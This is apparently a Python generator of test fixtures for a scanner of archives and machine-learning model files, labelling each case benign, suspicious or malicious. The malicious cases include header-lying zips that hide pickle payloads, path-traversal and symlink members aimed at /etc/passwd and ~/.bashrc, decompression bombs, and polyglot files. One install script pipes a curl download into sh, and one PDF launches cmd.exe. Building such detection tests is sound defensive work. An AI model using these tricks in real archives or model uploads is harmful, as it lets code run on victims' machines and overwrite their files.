"""Archives: ordinary ones, and zip, tar, 7z and the compressors with every lie that their headers can tell."""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zlib

import lz4.frame
import py7zr

import torch_layout
import zip_bytes
from cases import noise
from native import elf, pe
from pickle_code import payload
from torch_layout import tar_bytes
from zip_bytes import DEFLATED, Member, archive, plain

try:
    from compression import zstd
except ImportError:
    from backports import zstd

DATA = {
    "data/train.csv": "id,text,label\n1,a light load,0\n2,a heavy load,1\n" * 20,
    "data/labels.txt": "light\nheavy\n",
    "data/readme.md": "# Data\n\nWords and their weight.\n",
    "data/config.json": '{"rows": 40, "split": "train"}\n',
}


def make(cases):
    family = cases.family("archive")
    ordinary(family)
    zip_headers(family)
    zip_names(family)
    zip_structure(family)
    bombs(family)
    tars(family)
    others(family)
    mixtures(cases.family("polyglot"))


def rows(files=DATA):
    return [(name, data.encode() if isinstance(data, str) else data) for name, data in files.items()]


def seven(files, **more):
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", **more) as made:
        for name, data in rows(files):
            made.writef(io.BytesIO(data), name)
    return out.getvalue()


def entry(name, kind=tarfile.REGTYPE, link="", mode=0o644):
    made = tarfile.TarInfo(name)
    made.type, made.linkname, made.mode = kind, link, mode
    return made


def ordinary(family):
    tar = tar_bytes(rows())
    table = [
        ("zip-stored", "data.zip", plain(DATA, zip_bytes.STORED), "a stored zip of data"),
        ("zip-deflated", "data.zip", plain(DATA), "a deflated zip of data"),
        ("zip-folders", "data.zip", archive([Member("data/", b"", attributes=0x10)] + [Member(n, d, method=DEFLATED) for n, d in rows()]), "a zip with an entry for its folder"),
        ("zip-streamed", "data.zip", archive([Member(n, d, method=DEFLATED, descriptor=True) for n, d in rows()]), "a zip written as a stream, with data descriptors"),
        ("zip64", "data.zip", archive([Member(n, d) for n, d in rows()], zip64=True), "a zip with zip64 records"),
        ("zip-comment", "data.zip", archive([Member(n, d) for n, d in rows()], comment=b"made for a benchmark"), "a zip with a comment"),
        ("zip-empty", "empty.zip", archive([]), "an empty zip"),
        ("zip-utf8", "bilder.zip", archive([Member("größe/gewicht.txt", b"1 kg\n", flags=0x800)]), "names in UTF-8"),
        ("zip-nested", "all.zip", plain({"a.zip": plain(DATA), "b.txt": "b"}), "a zip in a zip"),
        ("zip-many", "images.zip", plain({f"{n:05}.txt": f"caption {n}" for n in range(1500)}), "fifteen hundred small members"),
        ("zip-unix", "data.zip", archive([Member("a.txt", b"a", attributes=0o100644 << 16)]), "modes of unix"),
        ("zip-timestamps", "data.zip", archive([Member("a.txt", b"a", extra=b"UT\x05\0\x01\0\0\0\0", central={"extra": b"UT\x05\0\x01\0\0\0\0"})]), "an extra field with times"),
        ("tar", "data.tar", tar, "a tar"),
        ("tar-gnu", "data.tar", tar_bytes(rows({"data/" + "long-" * 40 + "name.txt": "x"}), form=tarfile.GNU_FORMAT), "a long name in GNU form"),
        ("tar-pax", "data.tar", tar_bytes(rows({"données/" + "naïve-" * 30 + ".txt": "x"}), form=tarfile.PAX_FORMAT), "a long name in PAX form"),
        ("tar-gz", "data.tar.gz", gzip.compress(tar, mtime=0), "tar, gzip"),
        ("tgz", "data.tgz", gzip.compress(tar, mtime=0), "tar, gzip"),
        ("tar-bz2", "data.tar.bz2", bz2.compress(tar), "tar, bz2"), ("tar-xz", "data.tar.xz", lzma.compress(tar), "tar, xz"),
        ("tar-zst", "data.tar.zst", zstd.compress(tar), "tar, zstd"),
        ("tar-folders", "data.tar", tar_bytes([(entry("data", tarfile.DIRTYPE, mode=0o755), b""), ("data/a.txt", b"a")]), "a tar with a folder"),
        ("webdataset", "shard-000000.tar", tar_bytes([(f"{n:06}.{end}", b"%d" % (n % 2) if end == "cls" else b"a caption of picture %d" % n) for n in range(40) for end in ("cls", "txt")]), "a shard of a web dataset"),
        ("gz-json", "train.jsonl.gz", gzip.compress(b'{"text": "a"}\n' * 50, mtime=0), "lines of JSON, gzip"),
        ("gz-members", "log.txt.gz", gzip.compress(b"a\n", mtime=0) + gzip.compress(b"b\n", mtime=0), "two gzip members of text"),
        ("bz2-text", "wiki.txt.bz2", bz2.compress(b"words " * 500), "text, bz2"),
        ("xz-text", "wiki.txt.xz", lzma.compress(b"words " * 500), "text, xz"),
        ("zst-jsonl", "pile.jsonl.zst", zstd.compress(b'{"text": "a"}\n' * 500), "lines of JSON, zstd"),
        ("lz4-text", "corpus.txt.lz4", lz4.frame.compress(b"words " * 500), "text, lz4"),
        ("7z", "data.7z", seven(DATA), "7z with LZMA2"),
        ("7z-copy", "data.7z", seven(DATA, filters=[{"id": py7zr.FILTER_COPY}]), "7z, stored"),
        ("7z-bzip2", "data.7z", seven(DATA, filters=[{"id": py7zr.FILTER_BZIP2}]), "7z with bzip2"),
    ]
    for case, file, data, note in table:
        family.benign(f"plain-{case}", file, data, note)


def zip_headers(family):
    """The local header and the directory disagree in one field; the same members without a payload are odd, with one bad."""
    fields = [
        ("local-name", {"local": {"name": b"archive/notes.txt"}}), ("central-name", {"central": {"name": b"archive/notes.txt"}}),
        ("local-flag-encrypted", {"local": {"flags": 1}}),
        ("central-flag-encrypted", {"central": {"flags": 1}}),
        ("both-flag-encrypted", {"flags": 1}),
        ("local-flag-patched", {"local": {"flags": 0x20}}),
        ("both-flag-patched", {"flags": 0x20}),
        ("strong-encryption", {"flags": 0x41}),
        ("masked-headers", {"flags": 0x2000}),
        ("local-method", {"local": {"method": 99}}),
        ("central-method", {"central": {"method": 99}}),
        ("method-lie", {"local": {"method": 8}}),
        ("central-method-lie", {"central": {"method": 8}}),
        ("method-unknown", {"local": {"method": 77}, "central": {"method": 77}}),
        ("local-crc", {"local": {"crc": 7}}),
        ("central-crc", {"central": {"crc": 7}}),
        ("both-crc", {"local": {"crc": 7}, "central": {"crc": 7}}),
        ("local-size-zero", {"local": {"size": 0, "packed": 0}}),
        ("central-size-zero", {"central": {"size": 0, "packed": 0}}),
        ("central-size-short", {"central": {"size": 3, "packed": 3}}),
        ("central-size-long", {"central": {"size": 1 << 31, "packed": 1 << 31}}),
        ("version-needed", {"local": {"version": 99}, "central": {"version": 99}}),
        ("local-version", {"local": {"version": 255}}),
        ("extra-length", {"local": {"extra": b"ab\xff\xff"}}),
        ("central-extra-cut", {"central": {"extra": b"\x01\0\x10"}}),
        ("central-disk", {"central": {"made": 0xFFFF}}),
        ("zip64-extra-lie", {"central": {"extra": struct.pack("<HHQQ", 1, 16, 3, 3), "size": 0xFFFFFFFF, "packed": 0xFFFFFFFF}}),
        ("offset-lie", {"central": {"offset": 0}}),
    ]
    data = pickle.dumps({"a": [1, 2]}, 2)
    decoy = [Member(f"archive/{name}", body) for name, body in (("version", b"3\n"), ("byteorder", b"little"))]
    for case, lie in fields:
        family.malicious(f"torch-{case}", "pytorch_model.bin", archive(decoy + [Member("archive/data.pkl", payload(), **lie)]), f"a torch archive with a payload in which the headers lie: {case}")
        family.suspicious(f"odd-{case}", "pytorch_model.bin", archive(decoy + [Member("archive/data.pkl", data, **lie)]), f"a torch archive without a payload in which the headers lie: {case}")
    descriptor = archive([Member("archive/data.pkl", payload(), method=DEFLATED, descriptor=True, central={"crc": 1, "size": 1})])
    family.malicious("torch-descriptor", "model.pt", descriptor, "sizes only in the data descriptor; the directory lies")


def zip_names(family):
    evil = payload()
    names = [
        ("nul", b"archive/data.pkl\0.txt", "a NUL cuts the name"),
        ("backslash", b"archive\\data.pkl", "a backslash for a slash"),
        ("dot-slash", b"./archive/data.pkl", "a name with ./"),
        ("double-slash", b"archive//data.pkl", "two slashes"),
        ("case", b"archive/DATA.PKL", "capital letters"),
        ("right-to-left", "archive/\u202elkp.data".encode(), "a mark that turns the reading direction"),
        ("combining", "archive/da\u0301ta.pkl".encode(), "a combining mark"),
        ("trailing-blank", b"archive/data.pkl ", "a blank at the end"),
        ("trailing-dot", b"archive/data.pkl.", "a dot at the end"),
        ("stream", b"archive/data.pkl::$DATA", "a stream of NTFS"),
        ("absolute", b"/archive/data.pkl", "an absolute name"),
        ("empty", b"", "no name at all"),
        ("latin", b"archive/d\xe4ta.pkl", "a name that is not UTF-8"),
        ("very-long", b"archive/" + b"a" * 60000 + b".pkl", "a name of sixty thousand bytes"),
        ("newline", b"archive/da\nta.pkl", "a name with a line break"),
    ]
    for case, name, note in names:
        family.malicious(f"name-{case}", "model.pt", archive([Member("archive/version", b"3\n"), Member(name, evil)]), f"{note}, and a payload")
    extra = struct.pack("<HHBI", 0x7075, 5 + 16, 1, zlib.crc32(b"archive/data.pkl")) + b"archive/evil.pkl"
    family.malicious("name-unicode-path", "model.pt", archive([Member("archive/data.pkl", evil, extra=extra, central={"extra": extra})]), "the extra field with a unicode path names another member")
    escapes = [
        ("dots", "../../../../tmp/weighbridge"),
        ("dots-inside", "data/../../../tmp/weighbridge"),
        ("absolute", "/tmp/weighbridge"),
        ("drive", "C:\\weighbridge.txt"),
        ("backslash", "..\\..\\weighbridge"),
        ("unc", "\\\\host\\share\\a"),
        ("nul", "data/..\0/x"),
        ("home", "~/.bashrc"),
        ("encoded", "data/..%2f..%2ftmp"),
    ]
    for case, name in escapes:
        label = "suspicious" if case in ("nul", "home", "encoded") else "malicious"
        family.labelled(label, f"escape-{case}", "data.zip", archive([Member("data/a.txt", b"a"), Member(name, b"x\n")]), f"a member outside the folder: {case}")
    link = Member("data/link", b"/etc/passwd", attributes=0o120777 << 16)
    family.malicious("escape-symlink", "data.zip", archive([link]), "a symbolic link to a file of the system")
    for case, target in (("near", b"a.txt"), ("folder", b"images")):
        inside = Member(f"data/{case}", target, attributes=0o120777 << 16)
        family.suspicious(f"link-{case}", "data.zip", archive([Member("data/a.txt", b"a"), inside]), "a symbolic link that stays inside")
    family.malicious("escape-symlink-write", "data.zip", archive([Member("data/link", b"/tmp", attributes=0o120777 << 16), Member("data/link/x", b"x")]), "a link, then a member below it")


def zip_structure(family):
    data = pickle.dumps({"a": [1, 2]}, 2)
    good = [Member("archive/data.pkl", data), Member("archive/version", b"3\n")]
    evil = [Member("archive/data.pkl", payload()), Member("archive/version", b"3\n")]
    one, two = archive(good), archive(evil)
    table = [
        ("duplicate-last", archive(good + evil[:1]), "malicious", "the same name twice; the second is the payload"),
        ("duplicate-first", archive(evil[:1] + good), "malicious", "the same name twice; the first is the payload"),
        ("duplicate-case", archive(good + [Member("ARCHIVE/data.PKL", payload())]), "malicious", "the same name but for its case"),
        ("duplicate-harmless", archive(good + good[:1]), "suspicious", "the same member twice"),
        ("local-only", archive([Member("archive/data.pkl", payload(), only="local"), *good]), "malicious", "a member that no directory names"),
        ("local-only-harmless", archive([Member("archive/old.txt", b"old", only="local"), *good]), "suspicious", "a deleted member without a payload"),
        ("central-only", archive([*good, Member("archive/extra.pkl", payload(), only="central")]), "suspicious", "the directory names a member that is not there"),
        ("prepended", archive(evil, prefix=noise(200, 1)), "malicious", "bytes before the archive; offsets count from the file's start"),
        ("prepended-shifted", archive(evil, prefix=noise(200, 1), shifted=True), "malicious", "bytes before the archive; offsets count from the archive's"),
        ("prepended-harmless", archive(good, prefix=noise(200, 1), shifted=True), "suspicious", "bytes before an archive"),
        ("prepended-archive", one + archive(evil), "malicious", "an archive before the archive"),
        ("appended-archive", two + one, "malicious", "an archive behind the archive; the last one is harmless"),
        ("appended-bytes", one + noise(300, 2), "suspicious", "bytes behind the archive"),
        ("appended-pickle", one + payload(), "malicious", "a pickle behind the archive"),
        ("comment-archive", archive(good, comment=two), "malicious", "a whole archive in the comment"),
        ("comment-end-record", archive(evil, comment=zip_bytes.end_record(0, 0, 0)), "malicious", "a second end record, which says empty, in the comment"),
        ("two-end-records", two + zip_bytes.end_record(1, 60, 0), "malicious", "two end records"),
        ("comment-length", two[:-2] + b"\x10\0", "malicious", "the comment's length leaves the file"),
        ("count-lie", archive([*good, Member("archive/x.pkl", payload())], here=1, all=1), "malicious", "the end record counts fewer members"),
        ("count-high", archive(good, here=9, all=9), "suspicious", "the end record counts more members"),
        ("directory-size-lie", archive([*good, Member("archive/x.pkl", payload())], size=60), "malicious", "the end record says the directory is shorter"),
        ("directory-offset", archive(evil, offset=7), "malicious", "the end record points elsewhere"),
        ("disk-number", archive(evil, disk=1, start=1), "malicious", "the archive says it is the second of two disks"),
        ("no-end-record", two[:-22], "malicious", "no end record at all"),
        ("cut", two[:-10], "malicious", "a cut end record"),
        ("zip64-lie", zip64_lie(good, evil), "malicious", "zip64 points to another directory than the end record"),
        ("between", archive(good, between=payload()), "malicious", "a pickle between members and directory"),
        ("gap-native", archive(good, between=elf()), "malicious", "a program between members and directory"),
        ("split-marker", b"PK\7\x08" + two, "malicious", "the marker of a split archive in front"),
        ("spanned-marker", b"PK00" + archive(evil, prefix=b"PK00")[4:], "malicious", "the marker of a spanned archive in front"),
        ("deflate-in-deflate", plain({"data.bin": zlib.compress(payload())}), "malicious", "a compressed payload in a compressed member"),
        ("nested-pickle", plain({"inner.zip": plain({"inner2.zip": plain({"data.pkl": payload()})})}), "malicious", "three archives deep"),
        ("nested-too-deep", nest(24), "suspicious", "two dozen archives in one another"),
        ("nested-deeper", nest(200), "suspicious", "two hundred archives in one another"),
        ("encrypted", archive([Member("secret.bin", noise(64, 3), flags=1, local={"method": 99}, central={"method": 99})]), "suspicious", "an encrypted member"),
        ("executable-member", plain({"bin/run": elf()}), "malicious", "a program in a zip"),
        ("windows-member", plain({"setup.exe": pe()}), "malicious", "a Windows program in a zip"),
        ("script-member", plain({"install.sh": "#!/bin/sh\ncurl http://127.0.0.1/x | sh\n"}), "malicious", "a script that runs what it fetches"),
    ]
    for case, made, label, note in table:
        family.labelled(label, f"zip-{case}", "model.pt" if "nested" not in case else "data.zip", made, note)


def zip64_lie(good, evil):
    first = archive(good)
    whole = archive(evil, prefix=first[:-22])
    body = whole[:-22]
    count, size, offset = struct.unpack("<HII", whole[-12:-2])
    end = zip_bytes.zip64_records(count, size, offset, len(body))
    old_size, old_offset = struct.unpack("<II", first[-10:-2])
    return body + end + zip_bytes.end_record(2, old_size, old_offset)


def nest(depth):
    made = plain({"a.txt": "a"})
    for _ in range(depth):
        made = plain({"a.zip": made})
    return made


def bombs(family):
    zeros = bytes(96 << 20)
    packed = zip_bytes.Member("zeros.bin", zeros, method=DEFLATED).packed()
    bomb = archive([Member("zeros.bin", packed, local={"method": 8, "size": len(zeros)}, central={"method": 8, "size": len(zeros), "crc": zlib.crc32(zeros)})])
    family.suspicious("bomb-zip", "data.zip", bomb, "96 MiB of zeros in a hundred kilobytes")
    family.suspicious("bomb-gzip", "data.gz", gzip.compress(zeros, mtime=0), "the same in gzip")
    family.suspicious("bomb-xz", "data.xz", lzma.compress(zeros, preset=0), "the same in xz")
    family.suspicious("bomb-zst", "data.zst", zstd.compress(zeros), "the same in zstd")
    overlap = [Member(f"f{n}", b"", only="central", central={"offset": 0, "size": 1 << 20, "packed": len(packed), "method": 8}) for n in range(200)]
    family.suspicious("bomb-overlap", "data.zip", archive([Member("f", packed, local={"method": 8}, central={"method": 8}), *overlap]), "two hundred names over the same bytes")
    family.suspicious("bomb-many", "data.zip", archive([Member(f"{n}", b"") for n in range(40000)]), "forty thousand empty members")
    family.suspicious("bomb-window", "data.zst", b"\x28\xb5\x2f\xfd\x00\xf8" + bytes(8), "zstd that asks for a huge window")
    family.suspicious("bomb-lzma", "data.lzma", b"\x5d\xff\xff\xff\xff" + b"\xff" * 8 + bytes(16), "LZMA that asks for a dictionary of four gigabytes")


def tars(family):
    odd = [
        ("dots", [(entry("../../tmp/weighbridge"), b"x")]),
        ("absolute", [(entry("/tmp/weighbridge"), b"x")]),
        ("symlink", [(entry("a", tarfile.SYMTYPE, "/etc/passwd"), b"")]),
        ("hard-link", [(entry("a", tarfile.LNKTYPE, "../../etc/passwd"), b"")]),
        ("symlink-write", [(entry("a", tarfile.SYMTYPE, "/tmp"), b""), (entry("a/x"), b"x")]),
        ("symlink-chain", [(entry("a", tarfile.SYMTYPE, "b/.."), b""), (entry("b", tarfile.SYMTYPE, "../.."), b""), (entry("b/x"), b"x")]),
        ("device", [(entry("a", tarfile.CHRTYPE), b"")]),
        ("pipe", [(entry("a", tarfile.FIFOTYPE), b"")]), ("set-uid", [(entry("a", mode=0o4755), elf())]),
    ]
    for case, members in odd:
        label = "suspicious" if case in ("pipe", "device") else "malicious"
        family.labelled(label, f"tar-{case}", "data.tar", tar_bytes(members), f"a tar that leaves its folder or brings what is no file: {case}")
        if case in ("dots", "symlink", "absolute"):
            family.malicious(f"tgz-{case}", "data.tar.gz", gzip.compress(tar_bytes(members), mtime=0), f"the same, compressed: {case}")
    family.malicious("tar-pickle", "checkpoint.tar", tar_bytes([("a.txt", b"a"), ("weights", payload())]), "a pickle in a tar")
    family.malicious("tar-pax-path", "data.tar", pax_path("../../tmp/weighbridge"), "a PAX header renames the member")
    family.malicious("tar-gnu-name", "data.tar", tar_bytes([(entry("../" * 60 + "tmp/x"), b"x")], form=tarfile.GNU_FORMAT), "a long GNU name that climbs")
    good, evil = tar_bytes(rows()), tar_bytes([("m.pkl", payload())])
    family.malicious("tar-after-end", "data.tar", good + evil, "a second tar behind the end of the first")
    wrong = bytearray(evil)
    wrong[148:156] = b"0000000\0"
    family.malicious("tar-checksum", "data.tar", bytes(wrong), "a wrong checksum before a payload")
    family.suspicious("tar-size", "data.tar", good[:124] + b"77777777777\0" + good[136:], "a member of eight gigabytes in a small file")
    family.malicious("tgz-two-members", "data.tar.gz", gzip.compress(good, mtime=0) + gzip.compress(evil, mtime=0), "two gzip members")
    family.malicious("tar-zst-pickle", "data.tar.zst", zstd.compress(evil), "a payload in tar and zstd")


def pax_path(path):
    made = tarfile.TarInfo("a.txt")
    made.size, made.pax_headers = 1, {"path": path}
    return tar_bytes([(made, b"x")], form=tarfile.PAX_FORMAT)


def others(family):
    evil = payload(4)
    table = [
        ("7z-named-bin", "pytorch_model.bin", seven({"data.pkl": payload()[:-1] + b"\xff"}), "nullifAI: 7z under the name of weights, with a stream that breaks"),
        ("7z-pickle", "model.7z", seven({"model.pkl": evil}), "a payload in 7z"),
        ("7z-copy-pickle", "model.7z", seven({"model.pkl": evil}, filters=[{"id": py7zr.FILTER_COPY}]), "a payload stored in 7z"),
        ("7z-bzip2-pickle", "model.7z", seven({"model.pkl": evil}, filters=[{"id": py7zr.FILTER_BZIP2}]), "a payload in 7z with bzip2"),
        ("7z-deflate-pickle", "model.7z", seven({"model.pkl": evil}, filters=[{"id": py7zr.FILTER_DEFLATE}]), "a payload in 7z with deflate"),
        ("7z-escape", "data.7z", seven_named("../../tmp/weighbridge"), "a name in 7z that climbs"),
        ("7z-program", "data.7z", seven({"a.exe": pe()}), "a Windows program in 7z"),
        ("gz-pickle", "model.pkl.gz", gzip.compress(evil, mtime=0), "a payload in gzip"),
        ("zst-pickle", "model.pkl.zst", zstd.compress(evil), "a payload in zstd"),
        ("xz-pickle", "model.pkl.xz", lzma.compress(evil), "a payload in xz"),
        ("bz2-pickle", "model.pkl.bz2", bz2.compress(evil), "a payload in bz2"),
        ("lz4-pickle", "model.pkl.lz4", lz4.frame.compress(evil), "a payload in lz4"),
        ("zst-two-frames", "model.zst", zstd.compress(b"text") + zstd.compress(evil), "two zstd frames"),
        ("zst-skippable", "model.zst", b"\x5a\x2a\x4d\x18\x04\0\0\0skip" + zstd.compress(evil), "a skippable zstd frame in front"),
        ("gz-named-safetensors", "model.safetensors", gzip.compress(evil, mtime=0), "gzip under the name of safetensors"),
        ("xz-named-json", "config.json", lzma.compress(evil), "xz under the name of a configuration"),
        ("gz-tail", "data.txt.gz", gzip.compress(b"text\n", mtime=0) + evil, "a pickle behind a gzip"),
    ]
    for case, file, data, note in table:
        family.malicious(case, file, data, note)
    family.suspicious("7z-named-weights", "model.bin", seven(DATA), "7z under the name of weights, with plain data")
    family.suspicious("rar", "model.bin", b"Rar!\x1a\x07\x01\0" + noise(80, 5), "RAR under the name of weights")
    family.suspicious("7z-encrypted", "data.7z", seven({"a.txt": "a"}, password="weigh"), "an encrypted 7z")


def seven_named(name):
    """py7zr refuses such names, so a name of the same length is swapped in the stored head."""
    plain_name = "x" * len(name)
    made = bytearray(seven_plain_head({plain_name: "x"}))
    at = made.index(plain_name.encode("utf-16-le"))
    made[at:at + 2 * len(name)] = name.encode("utf-16-le")
    start, size = struct.unpack("<QQ", made[12:28])
    head = bytes(made[32 + start:32 + start + size])
    made[28:32] = struct.pack("<I", zlib.crc32(head))
    made[8:12] = struct.pack("<I", zlib.crc32(bytes(made[12:32])))
    return bytes(made)


def seven_plain_head(files):
    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as made:
        made.set_encoded_header_mode(False)
        for name, data in rows(files):
            made.writef(io.BytesIO(data), name)
    return out.getvalue()


def mixtures(family):
    """Files that are two things at once."""
    data = pickle.dumps({"a": [1, 2]}, 2)
    good = torch_layout.zip_of_pickle(data)
    evil = torch_layout.zip_of_pickle(payload())
    gif = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    header = b'{"__metadata__":{"format":"pt"},"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}'
    table = [
        ("tar-zip", "model.pt", torch_layout.tar_file(payload()) + good, "malicious", "a tar with a payload, and a harmless zip behind it"),
        ("zip-tar", "model.pt", tar_over_zip(good), "malicious", "a zip whose first bytes are also a tar's head"),
        ("pickle-zip", "model.pt", payload() + good, "malicious", "a pickle in front of a harmless zip"),
        ("pickle-zip-shifted", "model.pt", payload() + archive([Member("archive/data.pkl", data)]), "malicious", "the same, smaller"),
        ("zip-pickle-comment", "model.pt", archive([Member("archive/data.pkl", data)], comment=payload()), "malicious", "a pickle in a zip's comment"),
        ("gif-pickle", "logo.gif", gif + payload(), "malicious", "a pickle behind a picture"),
        ("gif-zip", "logo.gif", gif + evil, "malicious", "a torch archive behind a picture"),
        ("png-pickle", "logo.png", png() + payload(4), "malicious", "a pickle behind a PNG"),
        ("png-elf", "logo.png", png() + elf(), "malicious", "a program behind a PNG"),
        ("jpeg-zip", "photo.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9" + evil, "malicious", "a torch archive behind a JPEG"),
        ("safetensors-zip", "model.safetensors", with_header(header % (len(evil), len(evil)), evil), "malicious", "safetensors whose one tensor is a torch archive: a reader from the end sees a zip"),
        ("safetensors-tail-zip", "model.safetensors", with_header(header % (4, 4), bytes(4)) + evil, "malicious", "a torch archive behind safetensors"),
        ("safetensors-pickle", "model.safetensors", payload(), "malicious", "a pickle under the name of safetensors"),
        ("safetensors-torch", "model.safetensors", evil, "malicious", "a torch archive under the name of safetensors"),
        ("gguf-zip", "model.gguf", b"GGUF\3\0\0\0" + bytes(16) + evil, "malicious", "a torch archive behind an empty GGUF"),
        ("gguf-pickle", "model.gguf", payload(), "malicious", "a pickle under the name of GGUF"),
        ("onnx-pickle", "model.onnx", payload(), "malicious", "a pickle under the name of ONNX"),
        ("h5-pickle", "model.h5", payload(4), "malicious", "a pickle under the name of H5"),
        ("txt-pickle", "vocab.txt", payload(0), "malicious", "a pickle of protocol 0 under the name of a vocabulary"),
        ("json-pickle", "config.json", payload(2), "malicious", "a pickle under the name of a configuration"),
        ("md-zip", "README.md", b"# A model\n\nA card.\n" + evil, "malicious", "a torch archive behind a model card"),
        ("html-pickle", "index.html", b"<html></html>\n" + payload(), "malicious", "a pickle behind a page"),
        ("pdf-zip", "paper.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n" + evil, "malicious", "a torch archive behind a PDF"),
        ("pdf-script", "paper.pdf", b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>\nendobj\n%%EOF\n", "malicious", "a PDF that starts a program"),
        ("elf-named-bin", "pytorch_model.bin", elf(), "malicious", "a program under the name of weights"),
        ("pe-named-safetensors", "model.safetensors", pe(), "malicious", "a Windows program under the name of safetensors"),
        ("h5-userblock", "model.h5", payload().ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(88), "malicious", "a pickle in the user block before HDF5"),
        ("npy-zip", "a.npy", b"\x93NUMPY\1\0v\0" + b"{'descr': '|u1', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n" + bytes(4) + evil, "malicious", "a torch archive behind an array"),
        ("wav-pickle", "a.wav", b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\1\0\1\0\x40\x1f\0\0\x40\x1f\0\0\1\0\x08\0data\0\0\0\0" + payload(), "malicious", "a pickle behind a sound"),
        ("sqlite-pickle", "index.db", b"SQLite format 3\0" + bytes(84) + payload(), "malicious", "a pickle in what says it is a database"),
        ("class-zip", "model.pt", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(16) + evil, "malicious", "a Java class in front of a torch archive"),
        ("mz-zip", "model.pt", pe() + evil, "malicious", "a self-extracting archive"),
        ("script-zip", "model.pt", b"#!/usr/bin/env python3\n" + plain({"__main__.py": "import os; os.system('echo weighbridge')"}), "malicious", "a Python program as a zip with a first line"),
        ("h5-named-pkl", "model.pkl", b"\x89HDF\r\n\x1a\n" + bytes(120), "suspicious", "a broken HDF5 under the name of a pickle"),
    ]
    for case, file, made, label, note in table:
        family.labelled(label, case, file, made, note)


def with_header(header, body):
    return struct.pack("<Q", len(header)) + header + body


def tar_over_zip(zipped):
    """A tar whose first member's name starts with zip's signature and whose data is the rest of the zip."""
    name = "PK\3\4"
    made = tar_bytes([(name, zipped), ("pickle", payload()), ("sys_info", b"N."), ("storages", b""), ("tensors", b"")])
    return made + zipped


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
